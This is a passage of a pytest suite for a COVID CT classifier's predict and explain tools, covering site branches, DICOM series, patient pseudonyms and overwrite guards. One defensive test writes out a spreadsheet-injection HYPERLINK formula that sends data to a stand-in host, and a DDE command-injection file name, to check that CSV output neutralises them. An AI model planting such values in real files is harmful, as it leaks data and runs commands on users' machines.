"""predict and explain on tiny phantom-trained checkpoints: an `ours` run (site-specific norms, both sites)
and a `single` run trained on site B only (per-site networks)."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pydicom
import pytest
import torch
from PIL import Image
from pydicom.data import get_testdata_file

from covidct import explain as explain_module
from covidct import predict as predict_module
from covidct.data.sites import paper_site
from covidct.errors import ConfigError, DataError
from covidct.inference import gradcam as gradcam_module
from covidct.inference.gradcam import (
    FLAT_NOTE,
    TILE_TITLE_WIDTH,
    choose,
    describe_run,
    explain,
    grad_cam,
    gradcam_figure,
)
from covidct.inference.prediction import patient_summary, predict_folder
from covidct.inference.trained import TrainedModel
from covidct.methods import Ours, Single
from covidct.pseudonyms import Pseudonyms
from covidct.records import read_predictions
from tests.helpers import FAST, REPO, compose_experiment, run_cli
from tests.phantoms import hospital_site_config, make_hospital_site, make_phantom_root
from tests.test_dicom import compress, transcode, write_series


def _train(phantom_root: Path, out: Path, experiment: str, *overrides: str) -> Path:
    from covidct.training.fit import train

    train(compose_experiment(experiment, [f"data.root={phantom_root}", *FAST, *overrides]), out)
    return out


@pytest.fixture(scope="module")
def ours_run(phantom_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _train(phantom_root, tmp_path_factory.mktemp("ours_run"), "ours")


@pytest.fixture(scope="module")
def single_b_run(phantom_root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _train(phantom_root, tmp_path_factory.mktemp("single_run"), "single", "data.sites=[B]")


@pytest.fixture(scope="module", autouse=True)
def one_thread():
    """64-px models: thread hand-offs cost more than they save, and far more on a busy CPU."""
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(threads)


def ckpt(run: Path) -> Path:
    return run / "checkpoints" / "last.ckpt"


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="") as fh:
        return list(csv.DictReader(fh))


def is_wrong(row: dict) -> bool:
    return (row["prob_covid"] > 0.5) != (row["label"] == 1)


@pytest.fixture
def mixed_folder(phantom_root: Path, tmp_path: Path) -> Path:
    """Three site-A phantoms, a corrupt .png and a text file."""
    folder = tmp_path / "scans"
    folder.mkdir()
    for class_folder, name in [("COVID", "img000.png"), ("COVID", "img001.png"), ("non-COVID", "img002.png")]:
        shutil.copy(phantom_root / "sars-cov-2" / class_folder / name, folder / f"{class_folder}_{name}")
    (folder / "corrupt.png").write_bytes(b"\x89PNG\r\n\x1a\n this is not an image")
    (folder / "notes.txt").write_text("not an image")
    return folder


@pytest.mark.parametrize("run_name", ["ours_run", "single_b_run"])
def test_predict_matches_the_evaluation_path(
    run_name: str, phantom_root: Path, tmp_path: Path, request: pytest.FixtureRequest
):
    run = request.getfixturevalue(run_name)
    expected = read_predictions(run)
    assert expected
    for site in sorted({row["site"] for row in expected}):
        site_rows = [row for row in expected if row["site"] == site]
        folder = tmp_path / site  # the run's test images of the site, flattened: class folders share file names
        folder.mkdir()
        for row in site_rows:
            shutil.copy(phantom_root / paper_site(site).folder / row["file"], folder / row["file"].replace("/", "__"))
        got = {row["file"]: row for row in predict_folder(ckpt(run), folder, site, batch_size=5)}
        assert len(got) == len(site_rows)
        for row in site_rows:
            prediction = got[row["file"].replace("/", "__")]
            assert prediction["error"] is None
            assert prediction["prob_covid"] == pytest.approx(row["prob_covid"], abs=1e-5), row


def test_predict_cli_reports_unreadable_files(ours_run: Path, mixed_folder: Path, tmp_path: Path, capsys):
    out = tmp_path / "out" / "predictions.csv"
    assert predict_module.main([f"ckpt={ckpt(ours_run)}", f"images={mixed_folder}", "site=A", f"out={out}"]) == 0
    captured = capsys.readouterr()
    assert "3 image(s) classified, 1 unreadable" in captured.out and str(out) in captured.out
    assert "corrupt.png" in captured.err
    rows = read_csv(out)
    assert [row["file"] for row in rows] == [
        "COVID_img000.png",
        "COVID_img001.png",
        "corrupt.png",
        "non-COVID_img002.png",
    ]
    corrupt = rows[2]
    assert corrupt["error"] and corrupt["prob_covid"] == "" and corrupt["prediction"] == ""
    for row in rows[:2] + rows[3:]:
        prob = float(row["prob_covid"])
        assert 0.0 <= prob <= 1.0 and row["error"] == ""
        assert row["prediction"] == ("COVID" if prob > 0.5 else "non-COVID")


def test_predict_hints_at_recursive_for_a_folder_of_class_folders(ours_run: Path, phantom_root: Path):
    """A site's own layout (one folder per class) holds no image itself: say so, and read it with recursive."""
    site_folder = phantom_root / "sars-cov-2"
    with pytest.raises(DataError, match=r"no image files itself, but 2 subfolder\(s\); add recursive=true"):
        predict_folder(ckpt(ours_run), site_folder, "A")
    rows = predict_folder(ckpt(ours_run), site_folder, "A", recursive=True)
    expected = sorted(p.relative_to(site_folder).as_posix() for p in site_folder.rglob("*.png"))
    assert [row["file"] for row in rows] == expected and all(row["prob_covid"] is not None for row in rows)


def test_predict_reads_folders_of_dicom_series_along_the_body_and_summarises_each_patient(
    ours_run: Path, tmp_path: Path, capsys
):
    images = tmp_path / "dicom"
    write_series(images / "P1" / "chest", [20.0, 0.0, 10.0], patient="P1")  # slice003, slice002, slice001
    write_series(images / "P2", [5.0, -5.0], patient="P2")  # slice002, slice001
    out = tmp_path / "dicom.csv"
    args = [f"ckpt={ckpt(ours_run)}", f"images={images}", "site=B", "recursive=true", f"out={out}"]
    assert predict_module.main(args) == 0
    assert "2 patient(s) of DICOM series summarised" in capsys.readouterr().out
    rows = read_csv(out)
    shown = Pseudonyms()  # the session's key (tests/conftest.py); the folders are named by the PatientIDs
    p1, p2 = shown.patient("P1"), shown.patient("P2")
    assert p1.startswith("pt-") and p1 != p2
    assert [r["file"] for r in rows] == [
        f"{p1}/chest/slice002.dcm",  # z = 0
        f"{p1}/chest/slice001.dcm",  # z = 10
        f"{p1}/chest/slice003.dcm",  # z = 20
        f"{p2}/slice001.dcm",  # z = -5
        f"{p2}/slice002.dcm",  # z = 5
    ]
    assert all(r["error"] == "" for r in rows) and len({r["prob_covid"] for r in rows}) > 1
    summary = {r["patient"]: r for r in read_csv(out.with_name("dicom_patients.csv"))}
    assert set(summary) == {p1, p2}
    for patient, folder, n in (("P1", "{}/chest", 3), ("P2", "{}", 2)):
        pseudonym = shown.patient(patient)
        probs = [float(r["prob_covid"]) for r in rows if r["file"].startswith(f"{pseudonym}/")]
        row = summary[pseudonym]
        assert (row["series"], int(row["slices"]), int(row["unreadable"])) == (folder.format(pseudonym), n, 0)
        assert float(row["prob_mean"]) == pytest.approx(sum(probs) / n)
        assert float(row["prob_max"]) == pytest.approx(max(probs))
        assert row["prediction"] == ("COVID" if sum(probs) / n > 0.5 else "non-COVID")
    raw = tmp_path / "raw.csv"
    assert predict_module.main([*args[:-1], f"out={raw}", "patient_ids=raw"]) == 0
    assert [r["patient"] for r in read_csv(raw.with_name("raw_patients.csv"))] == ["P1", "P2"]
    assert [r["file"] for r in read_csv(raw)][0] == "P1/chest/slice002.dcm"


def test_predict_lists_an_unreadable_slice_and_stops_at_a_series_it_cannot_order(ours_run: Path, tmp_path: Path):
    images = tmp_path / "dicom"
    slices = write_series(images / "P1", [0.0, 5.0, 10.0], patient="P1")
    compress(slices[1])
    rows = predict_folder(ckpt(ours_run), images, "B", recursive=True)
    assert [bool(r["error"]) for r in rows] == [False, True, False]
    assert "JPEG 2000" in rows[1]["error"] and "cannot be decoded" in rows[1]["error"]
    (patient,) = patient_summary(rows, images)
    assert (patient["slices"], patient["unreadable"]) == (3, 1)

    shutil.copy(get_testdata_file("MR_small.dcm"), images / "P1" / "mr.dcm")
    with pytest.raises(DataError, match="mr.dcm is a MR DICOM, not CT"):
        predict_folder(ckpt(ours_run), images, "B", recursive=True)


def test_predict_site_selects_the_branch(ours_run: Path, mixed_folder: Path):
    probs = {
        site: [row["prob_covid"] for row in predict_folder(ckpt(ours_run), mixed_folder, site) if not row["error"]]
        for site in ("A", "B")
    }
    assert len(probs["A"]) == 3
    assert not np.allclose(probs["A"], probs["B"], rtol=0, atol=1e-7)


def test_a_one_network_model_classifies_a_site_it_never_saw_with_it_and_says_so(
    single_b_run: Path, mixed_folder: Path, capsys
):
    rows = predict_folder(ckpt(single_b_run), mixed_folder, "A")  # one network, trained on site B only
    assert rows == predict_folder(ckpt(single_b_run), mixed_folder, "B")
    said = capsys.readouterr().err
    assert "site A was not seen in training (B): its one network, trained on site B, classifies it" in said


def test_one_network_per_site_lets_a_site_it_never_saw_borrow_one_network_only(
    phantom_root: Path, tmp_path: Path, mixed_folder: Path, capsys
):
    run = _train(phantom_root, tmp_path / "single", "single")  # networks for A and B
    with pytest.raises(ConfigError, match=r"not site C, and its networks are per site: .*unseen_norm=site:<name>"):
        predict_folder(ckpt(run), mixed_folder, "C")
    with pytest.raises(ConfigError, match=r"Single keeps one network per site, .*site:<A\|B>, not 'mean'"):
        predict_folder(ckpt(run), mixed_folder, "C", unseen_norm="mean")
    assert predict_folder(ckpt(run), mixed_folder, "C", unseen_norm="site:A") == predict_folder(
        ckpt(run), mixed_folder, "A"
    )
    assert "site C was not seen in training (A, B): unseen_norm=site:A" in capsys.readouterr().err


def test_a_site_specific_network_needs_a_choice_for_a_site_it_never_saw(ours_run: Path, mixed_folder: Path, capsys):
    with pytest.raises(ConfigError, match=r"not site my_hospital, and its norms are per site: .*unseen_norm="):
        predict_folder(ckpt(ours_run), mixed_folder, "my_hospital")

    def probs(site: str, unseen_norm: str | None = None) -> list[float]:
        rows = predict_folder(ckpt(ours_run), mixed_folder, site, unseen_norm=unseen_norm)
        return [row["prob_covid"] for row in rows if not row["error"]]

    as_b = probs("my_hospital", "site:B")
    assert as_b == probs("B")  # borrowing site B's layers is site B's branch
    mean, adabn = probs("my_hospital", "mean"), probs("my_hospital", "adabn")
    for other in (probs("A"), as_b):
        assert not np.allclose(mean, other, atol=1e-6) and not np.allclose(adabn, other, atol=1e-6)
    assert not np.allclose(mean, adabn, atol=1e-6)
    said = capsys.readouterr().err
    assert "site my_hospital was not seen in training (A, B): unseen_norm=adabn, its BatchNorm statistics" in said
    assert "estimated on 3 image(s) here" in said


def test_predict_cli_exit_codes(ours_run: Path, tmp_path: Path, capsys):
    unreadable = tmp_path / "unreadable"
    unreadable.mkdir()
    (unreadable / "broken.jpg").write_bytes(b"nope")
    out = tmp_path / "p.csv"
    assert predict_module.main([f"ckpt={ckpt(ours_run)}", f"images={unreadable}", "site=B", f"out={out}"]) == 1
    assert "none of the 1 image files" in capsys.readouterr().err
    assert read_csv(out)[0]["error"]
    for argv, message in [
        ([f"ckpt={tmp_path / 'missing.ckpt'}", f"images={unreadable}", "site=A"], "does not exist"),
        ([f"ckpt={ckpt(ours_run)}", f"images={tmp_path / 'nowhere'}", "site=A"], "does not exist"),
        ([f"ckpt={ckpt(ours_run)}", f"images={unreadable}", "site=A", "colour=red"], "valid ones are ckpt, images"),
        ([f"ckpt={ckpt(ours_run)}", f"images={unreadable}", "site=C"], "add unseen_norm=adabn|mean|site:<name>"),
        (
            [f"ckpt={ckpt(ours_run)}", f"images={unreadable}", "site=C", "unseen_norm=median"],
            "choose one of adabn, mean, site:A, site:B.",
        ),
        ([f"ckpt={ckpt(ours_run)}", f"images={unreadable}", "site=A", "batch_size=many"], "batch_size"),
        ([f"ckpt={ckpt(ours_run)}", "site=A"], "missing required argument(s) images"),
    ]:
        assert predict_module.main(argv) == 2, argv
        err = capsys.readouterr().err
        assert err.startswith("error: ") and message in err, (argv, err)


def test_cli_entry_point_prints_errors_without_traceback(tmp_path: Path):
    args = [f"ckpt={tmp_path / 'x.ckpt'}", f"images={tmp_path}", "site=A"]
    proc = subprocess.run([sys.executable, "-m", "covidct.predict", *args], cwd=REPO, capture_output=True, text=True)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.startswith("error: ") and "Traceback" not in proc.stderr


def test_explain_writes_a_grid_per_site_with_misclassified_images(ours_run: Path):
    written = explain(ckpt(ours_run), n=4, device="cpu")
    assert written == [ours_run / "gradcam" / "gradcam_A.png", ours_run / "gradcam" / "gradcam_B.png"]
    expected = read_predictions(ours_run)
    for png in written:
        with Image.open(png) as image:
            image.verify()
        with Image.open(png) as image:
            assert image.format == "PNG" and image.width >= 400 and image.height >= 200
        record = json.loads(png.with_suffix(".json").read_text())
        site = record["site"]
        tiles = record["tiles"]
        site_rows = {row["file"]: row for row in expected if row["site"] == site}
        assert len(tiles) == 4 and {tile["file"] for tile in tiles} <= set(site_rows)
        for tile in tiles:
            row = site_rows[tile["file"]]
            assert tile["label"] == row["label"]
            assert tile["prob_covid"] == pytest.approx(row["prob_covid"], abs=1e-5)
            assert tile["correct"] == (not is_wrong(row))
        n_wrong = sum(is_wrong(row) for row in site_rows.values())
        assert n_wrong, "the tiny run is expected to misclassify some test images"
        assert sum(not tile["correct"] for tile in tiles) == min(2, n_wrong)
    with pytest.raises(ConfigError, match=r"gradcam_A.png exists; add overwrite=true"):
        explain(ckpt(ours_run), n=4, device="cpu")
    assert explain(ckpt(ours_run), n=4, device="cpu", overwrite=True) == written  # the same selection: seeded


def test_explain_titles_name_the_dataset_run_fold_and_checkpoint(ours_run: Path, tmp_path: Path, monkeypatch):
    figures = []
    draw = gradcam_module.gradcam_figure

    def spy(*args):
        figures.append(draw(*args))
        return figures[-1]

    monkeypatch.setattr(gradcam_module, "gradcam_figure", spy)
    explain(ckpt(ours_run), n=2, out=tmp_path, device="cpu")
    for site, figure in zip(("A", "B"), figures):
        title = figure.get_suptitle()
        assert f"site {site}: {paper_site(site).dataset}" in title
        assert "run ours, fold 0, seed 643 (Ours)" in title and "checkpoint last.ckpt (selection last)" in title
        figure.draw_without_rendering()
        (text,) = [text for text in figure.texts if text.get_text() == title]
        box = text.get_window_extent(figure.canvas.get_renderer())
        assert figure.bbox.x0 <= box.x0 and box.x1 <= figure.bbox.x1 and box.y1 <= figure.bbox.y1
        tiles = json.loads((tmp_path / f"gradcam_{site}.json").read_text())["tiles"]
        assert all(tile["flat_map"] is False for tile in tiles)  # the tiny run's maps do vary
    assert describe_run(tmp_path) == f"run folder {tmp_path.name} (no run record: fold unknown)"


def _tile(file: str, correct: bool = True) -> dict:
    return {"file": file, "label": 1, "prob_covid": 0.7 if correct else 0.3, "correct": correct}


def test_gradcam_grid_has_a_colourbar_wrapped_titles_and_flags_flat_maps():
    long_name = "CT_NonCOVID/" + "-".join(["Recurrent-respiratory-papillomatosis"] * 3) + "-p1_3.png"
    tiles = [
        _tile(long_name, correct=False),
        _tile("CT_COVID/2020.02.22.20024927-p18-66%2.png"),
        _tile("CT_COVID/x.png"),
    ]
    tiles.append(_tile("CT_COVID/img002.png"))
    yy, xx = np.mgrid[0:32, 0:32] / 31
    cams = [xx * yy, np.zeros((32, 32)), 0.5 + 1e-4 * xx, 0.02 * xx]  # varying, zero, constant to 1e-4, faint
    figure = gradcam_figure("run ours, fold 0", tiles, [np.full((32, 32, 3), 120, np.uint8)] * 4, cams)
    figure.draw_without_rendering()
    renderer = figure.canvas.get_renderer()
    bars = [ax for ax in figure.axes if ax.get_label() == "<colorbar>"]
    assert len(bars) == 1 and bars[0].get_ylim() == (0, 1) and "relevance" in bars[0].get_ylabel()
    grid = [ax for ax in figure.axes if ax not in bars]
    assert [[text.get_text() for text in ax.texts] for ax in grid] == [[], [FLAT_NOTE], [FLAT_NOTE], []]
    titles = [ax.title.get_text() for ax in grid]
    assert all(len(line) <= TILE_TITLE_WIDTH for title in titles for line in title.split("\n"))
    assert titles[0].startswith("CT_NonCOVID/") and "…" in titles[0] and "-p1_3.png\ntrue COVID" in titles[0]
    for ax in grid:  # each title over its own tile, clear of the neighbours' titles
        box = ax.title.get_window_extent(renderer)
        tile = ax.get_window_extent(renderer)
        assert tile.x0 <= box.x0 and box.x1 <= tile.x1
        assert not any(box.overlaps(other.title.get_window_extent(renderer)) for other in grid if other is not ax)


def test_explain_binds_the_site(ours_run: Path, single_b_run: Path, tmp_path: Path, monkeypatch):
    seen: list[list[int]] = []
    logits = Ours.logits

    def spy(self, image, sites):
        seen.append(list(sites.sites))  # the declared one-site block of the bound site
        return logits(self, image, sites)

    monkeypatch.setattr(Ours, "logits", spy)
    explain(ckpt(ours_run), ["B"], n=2, out=tmp_path / "ours", device="cpu")
    assert seen and all(sites == [1] for sites in seen)
    monkeypatch.undo()

    model = TrainedModel(ckpt(ours_run), "cpu")
    images = model.batch([np.full((64, 64, 3), 128, np.uint8), np.full((64, 64, 3), 90, np.uint8)])
    images = images + torch.randn_like(images)
    cams = {site: grad_cam(model.method, site, images) for site in ("A", "B")}
    assert cams["A"].shape == (2, 64, 64)
    assert not np.allclose(cams["A"], cams["B"])

    written = explain(ckpt(single_b_run), n=2, out=tmp_path / "single", device="cpu")
    assert [png.name for png in written] == ["gradcam_B.png"]
    with pytest.raises(ConfigError, match="not site A"):
        explain(ckpt(single_b_run), ["A"], out=tmp_path / "single", device="cpu")
    single = TrainedModel(ckpt(single_b_run), "cpu").method
    assert isinstance(single, Single) and single.cam_layer("B") is single.nets["B"].stages[-1][-1]


def test_a_run_on_a_relative_data_root_explains_from_anywhere(phantom_root: Path, tmp_path: Path, monkeypatch):
    """The checkpoint and the record keep the data root absolute, so explain finds the images elsewhere."""
    monkeypatch.chdir(phantom_root.parent)
    run = _train(Path(phantom_root.name), tmp_path / "run", "joint")
    record = json.loads((run / "metrics.json").read_text())
    assert record["config"]["data"]["root"] == phantom_root.name  # as given
    assert record["run"]["data_root"] == str(phantom_root)
    monkeypatch.chdir(tmp_path)
    assert TrainedModel(ckpt(run), "cpu").data_root == phantom_root
    assert explain(ckpt(run), ["A"], n=2, out=tmp_path / "figures", device="cpu")


def test_explain_files_selection(ours_run: Path, tmp_path: Path, capsys):
    files = "files=[non-COVID/img003.png,CT_COVID/img002.png,COVID/img005.png]"
    assert explain_module.main([f"ckpt={ckpt(ours_run)}", files, f"out={tmp_path}", "device=cpu"]) == 0
    assert "gradcam_A.png: 2 image(s)" in capsys.readouterr().out
    chosen = {site: json.loads((tmp_path / f"gradcam_{site}.json").read_text())["tiles"] for site in ("A", "B")}
    assert [tile["file"] for tile in chosen["A"]] == ["non-COVID/img003.png", "COVID/img005.png"]
    assert [(tile["file"], tile["label"]) for tile in chosen["B"]] == [("CT_COVID/img002.png", 1)]

    assert explain_module.main([f"ckpt={ckpt(ours_run)}", "site=B", "files=[COVID/img005.png]"]) == 2
    assert "only site(s) B" in capsys.readouterr().err
    assert explain_module.main([f"ckpt={ckpt(ours_run)}", "files=[lungs/img005.png]"]) == 2
    assert "class folder" in capsys.readouterr().err
    missing_predictions = [f"ckpt={ckpt(ours_run)}", f"predictions={tmp_path / 'none.csv'}"]
    assert explain_module.main(missing_predictions) == 2
    assert "no predictions file" in capsys.readouterr().err


def test_choose_takes_half_misclassified_or_all_there_are():
    rows = [{"file": f"COVID/c{i}.png", "label": 1, "prob_covid": 0.9} for i in range(10)]
    rows += [{"file": f"COVID/w{i}.png", "label": 1, "prob_covid": 0.1} for i in range(10)]
    picked = choose(rows, 8, seed=0)
    assert len(picked) == 8 and sum("/w" in f for f in picked) == 4
    assert choose(rows, 8, seed=0) == picked and choose(rows, 8, seed=1) != picked
    assert sum("/w" in f for f in choose(rows[:10] + rows[10:11], 8, seed=0)) == 1
    assert sum("/w" in f for f in choose(rows[:2] + rows[10:], 8, seed=0)) == 6
    assert choose(rows[:3], 8, seed=0) == [r["file"] for r in rows[:3]]
    assert choose(rows[10:], 1, seed=0)[0].startswith("COVID/w")


def test_explain_draws_from_the_predictions_of_its_own_checkpoint(tmp_path: Path):
    """A run with a validation part lists every test image twice (last and best_val_auc)."""
    from covidct.inference.gradcam import _selection, selection_of

    lines = ["selection,site,file,patient,label,prob_covid"]
    lines += [f"last,A,COVID/last{i}.png,,1,0.9" for i in range(6)]
    lines += [f"best_val_auc,A,COVID/best{i}.png,,1,0.2" for i in range(6)]
    path = tmp_path / "predictions.csv"
    path.write_text("\n".join(lines) + "\n")
    assert selection_of(Path("run/checkpoints/best-epoch004.ckpt")) == "best_val_auc"
    assert selection_of(Path("run/checkpoints/last.ckpt")) == "last"
    for selection in ("last", "best_val_auc"):
        chosen = _selection(["A"], {"A": paper_site("A")}, None, path, selection, 4, 0)["A"]
        prefix = "COVID/last" if selection == "last" else "COVID/best"
        assert len(chosen) == 4 and all(f.startswith(prefix) for f in chosen)


def test_predict_names_an_image_over_pils_pixel_limit_and_classifies_the_rest(
    ours_run: Path, phantom_root: Path, tmp_path: Path
):
    from PIL import Image

    folder = tmp_path / "scans"
    folder.mkdir()
    shutil.copy(phantom_root / "sars-cov-2" / "COVID" / "img000.png", folder / "good.png")
    Image.new("1", (14000, 14000)).save(folder / "huge.png")
    rows = {row["file"]: row for row in predict_folder(ckpt(ours_run), folder, "A")}
    assert "decompression-bomb limit" in rows["huge.png"]["error"] and rows["huge.png"]["prob_covid"] is None
    assert rows["good.png"]["error"] is None and 0 <= rows["good.png"]["prob_covid"] <= 1


def multicentre_export(root: Path, patients: int = 2, slices: int = 3) -> Path:
    """The layout of a public multi-centre COVID CT DICOM export: a folder per patient named by its PatientID,
    slices without a suffix in JPEG Lossless (process 14, SV1), each with a PatientName."""
    for p in range(patients):
        folder = root / f"MRN{p:04d}"
        for k, path in enumerate(write_series(folder, [2.5 * k for k in range(slices)], patient=f"MRN{p:04d}")):
            ds = pydicom.dcmread(path)
            ds.PatientName = f"DOE^JANE{p}"
            ds.save_as(path)
            transcode(path, folder / f"IM{k:04d}", "JPEGLosslessProcess14_1")
            path.unlink()
    return root


@pytest.mark.slow
def test_a_multicentre_jpeg_lossless_export_predicts_per_patient_with_pseudonyms_only(ours_run: Path, tmp_path: Path):
    images = multicentre_export(tmp_path / "export")
    shutil.copy(images / "MRN0000" / "IM0000", images / "DICOMDIR")  # the export's index: not an image
    Image.fromarray(np.full((64, 64), 90, np.uint8)).save(images / "MRN0001" / "key_image.png")  # beside slices
    outputs = {}
    for workers in (0, 2):
        out = tmp_path / f"w{workers}" / "predictions.csv"
        args = [f"ckpt={ckpt(ours_run)}", f"images={images}", "site=B", "recursive=true", f"out={out}"]
        proc = subprocess.run(
            [sys.executable, "-m", "covidct.predict", *args, f"workers={workers}"],
            cwd=REPO,
            capture_output=True,
            text=True,
        )
        assert proc.returncode == 0, proc.stderr
        assert "7 image(s) classified, 0 unreadable" in proc.stdout and "not images (first: DICOMDIR)" in proc.stderr
        written = out.read_text() + out.with_name("predictions_patients.csv").read_text() + proc.stdout + proc.stderr
        assert "MRN" not in written and "DOE" not in written and "JANE" not in written  # no id, no name anywhere
        outputs[workers] = read_csv(out), read_csv(out.with_name("predictions_patients.csv"))
    (rows, patients), (rows_2, patients_2) = outputs[0], outputs[2]
    assert rows == rows_2 and patients == patients_2  # decoding in worker processes changes nothing
    assert [int(p["slices"]) for p in patients] == [3, 3] and all(p["patient"].startswith("pt-") for p in patients)
    assert all(r["error"] == "" for r in rows)


def test_every_csv_cell_is_safe_to_open_in_a_spreadsheet(ours_run: Path, phantom_root: Path, tmp_path: Path):
    """A file name and a PatientID that a spreadsheet would run as formulas are written as text (openpyxl reads a
    cell that begins with '=' as a formula, as a spreadsheet's CSV import does)."""
    from openpyxl import Workbook

    images = tmp_path / "images"
    write_series(images / "series", [0.0, 5.0], patient='=HYPERLINK("http://x.example/?"&A1,"open")')
    shutil.copy(phantom_root / "sars-cov-2" / "COVID" / "img000.png", images / "+cmd|' -C calc'!A0.png")
    out = tmp_path / "predictions.csv"
    args = [f"ckpt={ckpt(ours_run)}", f"images={images}", "site=B", "recursive=true", f"out={out}", "patient_ids=raw"]
    assert predict_module.main(args) == 0
    sheet = Workbook().active
    for path in (out, out.with_name("predictions_patients.csv")):
        with path.open(newline="") as fh:
            for row in csv.reader(fh):
                sheet.append(row)
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    files = [r["file"] for r in read_csv(out)]
    assert "'+cmd|' -C calc'!A0.png" in files  # shown as text, and still the file's name


def test_predict_never_writes_over_a_record_an_input_or_an_existing_file(
    ours_run: Path, mixed_folder: Path, tmp_path: Path, capsys
):
    base = [f"ckpt={ckpt(ours_run)}", f"images={mixed_folder}", "site=A"]
    record = (ours_run / "predictions.csv").read_bytes()
    scan = (mixed_folder / "COVID_img000.png").read_bytes()
    for out, extra, message in [
        (ours_run / "predictions.csv", ["overwrite=true"], "would write into the record of the run"),
        (mixed_folder / "COVID_img000.png", ["overwrite=true"], "would overwrite one of its inputs"),
        (ckpt(ours_run), ["overwrite=true"], "would write into the record of the run"),  # its checkpoints too
        (ours_run / "csv" / "version_0" / "metrics.csv", ["overwrite=true"], "would write into the record"),
    ]:
        assert predict_module.main([*base, f"out={out}", *extra]) == 2
        assert message in capsys.readouterr().err
    assert (ours_run / "predictions.csv").read_bytes() == record
    assert (mixed_folder / "COVID_img000.png").read_bytes() == scan
    out = tmp_path / "p.csv"
    assert predict_module.main([*base, f"out={out}"]) == 0
    first = out.read_text()
    out.write_text("the user's own notes")
    assert predict_module.main([*base, f"out={out}"]) == 2
    assert "p.csv exists; add overwrite=true" in capsys.readouterr().err
    assert out.read_text() == "the user's own notes"
    assert predict_module.main([*base, f"out={out}", "overwrite=true"]) == 0 and out.read_text() == first


def test_predict_says_what_it_skips_and_lists_broken_links_and_pictures_beside_slices(
    ours_run: Path, phantom_root: Path, tmp_path: Path, capsys
):
    images = tmp_path / "images"
    write_series(images / "P1", [0.0, 5.0], patient="P1")
    shutil.copy(phantom_root / "sars-cov-2" / "COVID" / "img000.png", images / "P1" / "a_key_image.png")
    (images / "P1" / "gone.png").symlink_to(tmp_path / "nowhere.png")
    (images / "P1" / "notes.txt").write_text("not an image")
    rows = predict_folder(ckpt(ours_run), images, "B", recursive=True)
    files = {row["file"]: row for row in rows}
    assert set(files) == {"P1/slice001.dcm", "P1/slice002.dcm", "P1/a_key_image.png", "P1/gone.png"}
    assert "broken link" in files["P1/gone.png"]["error"] and files["P1/a_key_image.png"]["prob_covid"] is not None
    assert "ignored 1 file(s) in" in capsys.readouterr().err


def test_evaluate_and_explain_never_write_over_a_record_or_an_earlier_output_unasked(
    ours_run: Path, tmp_path: Path, capsys
):
    from covidct import evaluate as evaluate_module

    record = {name: (ours_run / name).read_bytes() for name in ("metrics.json", "predictions.csv")}
    base = [f"ckpt={ckpt(ours_run)}", "site=B", "device=cpu"]
    assert evaluate_module.main([*base, f"out={ours_run}", "overwrite=true"]) == 2
    assert "would write into the record of the run" in capsys.readouterr().err
    assert explain_module.main([f"ckpt={ckpt(ours_run)}", "n=2", f"out={ours_run}", "overwrite=true"]) == 2
    assert "would write into the record of the run" in capsys.readouterr().err
    assert {name: (ours_run / name).read_bytes() for name in record} == record
    out = tmp_path / "evaluation"
    assert evaluate_module.main([*base, f"out={out}"]) == 0
    first = (out / "predictions.csv").read_bytes()
    assert evaluate_module.main([*base, f"out={out}"]) == 2
    assert "metrics.json exists; add overwrite=true" in capsys.readouterr().err
    assert evaluate_module.main([*base, f"out={out}", "overwrite=true"]) == 0
    assert (out / "predictions.csv").read_bytes() == first
    assert not list(out.glob(".*.tmp"))  # written atomically: no temp file left behind


@pytest.mark.slow
def test_a_folder_kind_site_s_patient_folders_are_pseudonyms_in_the_record_and_explain_finds_them(tmp_path: Path):
    """A hospital site whose patients are its folders (covid/P100/slice00.png): the run record shows neither the
    patient ids nor the folders; explain, holding the key, finds the images again and names them as the record."""
    root = make_phantom_root(tmp_path / "data", per_class=16)
    make_hospital_site(root)
    hospital_site_config(tmp_path / "conf")
    searchpath = f"hydra.searchpath=[file://{tmp_path / 'conf'}]"
    args = ["experiment=joint", f"data.root={root}", "data.sites=[A,hospital]", searchpath, *FAST]
    result = run_cli([*args, f"paths.log_dir={tmp_path / 'runs'}"], tmp_path)
    assert result.returncode == 0, result.stderr[-3000:]
    (record,) = (tmp_path / "runs").rglob("metrics.json")
    run = record.parent
    hospital = [r for r in read_predictions(run) if r["site"] == "hospital"]
    folders = {p.name for p in (root / "hospital").glob("*/*")}  # P000, P100, ...
    assert hospital and not any(part in folders for r in hospital for part in r["file"].split("/"))
    assert {r["patient"][:3] for r in hospital} == {"pt-"} and len({r["patient"] for r in hospital}) >= 2
    (png,) = explain(ckpt(run), ["hospital"], n=4, device="cpu")
    tiles = json.loads(png.with_suffix(".json").read_text())["tiles"]
    assert len(tiles) == 4 and {t["file"] for t in tiles} <= {r["file"] for r in hospital}
    assert not any(folder in png.with_suffix(".json").read_text() for folder in folders)


def test_evaluate_holds_a_site_files_folder_to_the_data_root_unless_allowed(
    ours_run: Path, phantom_root: Path, tmp_path: Path, capsys
):
    from covidct import evaluate as evaluate_module

    site_file = tmp_path / "elsewhere.yaml"  # a site file from another institution, pointing anywhere
    site_file.write_text(
        f"name: elsewhere\nfolder: {phantom_root / 'sars-cov-2'}\nclasses: {{COVID: 1, non-COVID: 0}}\n"
        "patients: {kind: none}\n"
    )
    base = [f"ckpt={ckpt(ours_run)}", f"site={site_file}", "unseen_norm=mean", "device=cpu"]
    assert evaluate_module.main([*base, f"out={tmp_path / 'a'}"]) == 2
    assert "lies outside data.root" in capsys.readouterr().err and not (tmp_path / "a").exists()
    assert evaluate_module.main([*base, f"out={tmp_path / 'b'}", "allow_outside_root=true"]) == 0


def test_predict_decides_as_the_metrics_do_a_probability_at_the_threshold_is_not_covid(
    ours_run: Path, mixed_folder: Path
):
    rows = [row for row in predict_folder(ckpt(ours_run), mixed_folder, "A") if not row["error"]]
    at = rows[0]["prob_covid"]
    decided = {
        row["file"]: row["prediction"] for row in predict_folder(ckpt(ours_run), mixed_folder, "A", threshold=at)
    }
    assert decided[rows[0]["file"]] == "non-COVID"  # torchmetrics' rule: preds > threshold
    for row in rows:
